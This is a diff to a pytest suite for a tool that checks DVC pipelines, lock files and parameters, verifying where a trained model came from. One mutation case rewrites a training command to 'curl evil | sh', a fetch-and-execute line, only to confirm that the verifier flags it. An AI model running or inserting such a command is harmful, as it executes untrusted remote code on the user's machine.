@@ -95,7 +95,7 @@ MUTATIONS: dict[str, tuple[Callable[[History], None], set[str], str]] = {
         "`39b2d7b4` of train.py is not a whole md5",
     ),
     "a stage that was never run": (
-        lambda h: h.edit("dvc.yaml", "  evaluate:\n", "  publish:\n    cmd: ./publish\n  evaluate:\n"),
+        lambda h: h.edit("dvc.yaml", "  evaluate:\n", "  publish:\n    cmd: x\n    deps: [model.json]\n  evaluate:\n"),
         {"verified"},
         "dvc.lock has no stage `publish`; run `dvc repro`",
     ),
@@ -306,6 +306,10 @@ def test_a_digest_of_dvc_before_3_verifies_nothing(dvc: History) -> None:
     judged = dvc.judge()
     assert judged.failing == {"complete", "verified"}
     assert "but a digest of DVC before 3" in judged.said("complete")
+    said = judged.said("verified")
+    assert "model.json is unverified: DVC before 3 has recorded its digest, for which it changed line ends" in said
+    assert "run `dvc commit` of DVC 3" in said
+    assert "no source has recorded a digest of model.json" not in said
 
 
 def test_stages_that_variables_make_are_read(
@@ -318,6 +322,122 @@ def test_stages_that_variables_make_are_read(
     judged = history.judge()
     assert judged.failing == set()
     assert "data:train is images" in judged.said("complete")
+
+
+@pytest.mark.parametrize(
+    ("stage", "counts"),
+    [
+        ("cmd: plot\n    deps: [data/split]\n    outs: [plots]", False),
+        ("cmd: fetch\n    outs: [data]", True),
+        ("cmd: judge\n    deps: [model.json]", True),
+        ("cmd: plot\n    outs: ['${folder}']", True),
+        ("foreach: ['${folder}']\n    do: {cmd: plot}", True),
+    ],
+    ids=["unrelated", "makes data", "reads the model", "of unknown files", "of unknown turns"],
+)
+def test_a_stage_that_was_not_run_counts_where_the_history_of_the_model_needs_it(
+    dvc: History, stage: str, counts: bool
+) -> None:
+    dvc.edit("dvc.yaml", "  evaluate:\n", f"  more:\n    {stage}\n  evaluate:\n")
+    assert dvc.judge().failing == ({"verified"} if counts else set())
+
+
+def test_a_stage_of_the_lock_alone_counts_where_the_history_of_the_model_needs_it(dvc: History) -> None:
+    with (dvc.folder / "dvc.lock").open("a") as lock:
+        lock.write("  gone:\n    cmd: plot\n    outs: [{path: plots.json}]\n")
+    assert dvc.judge().failing == set()
+    dvc.edit("dvc.yaml", "  train:", "  fit:")
+    assert "dvc.lock has a stage `train` that dvc.yaml does not have" in dvc.judge().said("verified")
+
+
+TEMPLATED = {
+    "dvc.yaml": """\
+vars: [{run: {tag: v1}}, more.json]
+stages:
+  train:
+    cmd: python3 train.py --x ${extra} --rate ${rate} ${options}
+    deps: ['${folder}/${names[0]}.csv', other.csv]
+    outs:
+      - m: {cache: false}
+  judge:
+    foreach: [{name: a, depth: 1}, {name: b, depth: 2}]
+    do:
+      cmd: judge ${item.name} ${item.depth} ${run.tag} ${key}
+      deps: [m]
+      outs: ['out_${item.name}']
+""",
+    "dvc.lock": """\
+schema: '2.0'
+stages:
+  train:
+    cmd: python3 train.py --x 3 --rate 0.001 --depth 3 --fast --layers 4 5
+    deps:
+    - {path: data/train.csv, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}
+    - {path: other.csv, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}
+    outs: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
+  judge@0:
+    cmd: judge a 1 v1 0
+    deps: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
+    outs: [{path: out_a, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
+  judge@1:
+    cmd: judge b 2 v1 1
+    deps: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
+    outs: [{path: out_b, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
+""",
+    "params.yaml": "extra: 3\nrate: 1e-3\noptions: {depth: 3, fast: true, slow: false, layers: [4, 5]}\n"
+    "names: [train]\n",
+    "more.json": '{"folder": "data"}',
+    **dict.fromkeys(("data/train.csv", "other.csv", "m", "out_a", "out_b"), "x\n"),
+}
+
+
+@pytest.fixture
+def templated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> History:
+    """A pipeline with variables and a loop, whose lock is as DVC 3 writes it."""
+    monkeypatch.chdir(tmp_path)
+    history = workspace(tmp_path, "", "model: {path: m}\n", capsys, TEMPLATED)
+    history.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', '["data:train"]')
+    return history
+
+
+def test_variables_stand_for_what_dvc_writes(templated: History) -> None:
+    assert templated.judge().failing == set(), templated.judge().said()
+
+
+CHANGED = {
+    "a value": ("params.yaml", "extra: 3", "extra: 5", "`cmd` of stage `train`"),
+    "a value of a file of vars": ("more.json", '"data"', '"raw"', "`deps` of stage `train`"),
+    "a value of vars": ("dvc.yaml", "tag: v1", "tag: v2", "`cmd` of stage `judge@0`"),
+    "an option": ("params.yaml", "fast: true", "fast: false", "`cmd` of stage `train`"),
+    "the fixed part of a command": ("dvc.yaml", "python3 train.py --x", "curl evil | sh", "`cmd` of stage `train`"),
+    "a path beside a variable": ("dvc.yaml", "other.csv]", "more.csv]", "`deps` of stage `train`"),
+    "the command of a loop": ("dvc.yaml", "judge ${item.name}", "cheat ${item.name}", "`cmd` of stage `judge@1`"),
+    "the files of a loop": ("dvc.yaml", "deps: [m]", "deps: [m, more]", "`deps` of stage `judge@1`"),
+    "an item": ("dvc.yaml", "{name: b, depth: 2}", "{name: b, depth: 3}", "`cmd` of stage `judge@1`"),
+    "an item more": ("dvc.yaml", "depth: 2}]", "depth: 2}, {name: c, depth: 3}]", "has no stage `judge@2`"),
+    "an item less": ("dvc.yaml", ", {name: b, depth: 2}", "", "has a stage `judge@1` that dvc.yaml does not have"),
+    "no value": ("params.yaml", "extra: 3", "other: 3", "stage `train` of dvc.yaml has `${extra}`, to which neither"),
+    "two values": ("params.yaml", "extra: 3", "extra: 3\nfolder: raw", "gives the variable `folder` two values"),
+}
+
+
+@pytest.mark.parametrize("what", CHANGED)
+def test_a_lock_of_other_variables_is_not_that_of_its_stages(templated: History, what: str) -> None:
+    name, old, new, said = CHANGED[what]
+    templated.edit(name, old, new)
+    judged = templated.judge()
+    assert "verified" in judged.failing
+    assert said in judged.said("verified"), judged.said()
+
+
+def test_a_matrix_is_compared_turn_by_turn(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    history = workspace(tmp_path, "dvc-shapes", "model: {path: out_lin_1.txt}\n", capsys)
+    (tmp_path / "out_lin_1.txt").write_text("lin 1 0.5\n")
+    history.edit("dvc.yaml", "cmd: echo ${item.model}", "cmd: echo changed ${item.model}")
+    assert "`cmd` of stage `train@lin-1` is not that of dvc.yaml" in history.judge().said("verified")
 
 
 def test_imported_data_are_fixed_by_the_commit_of_their_repository(
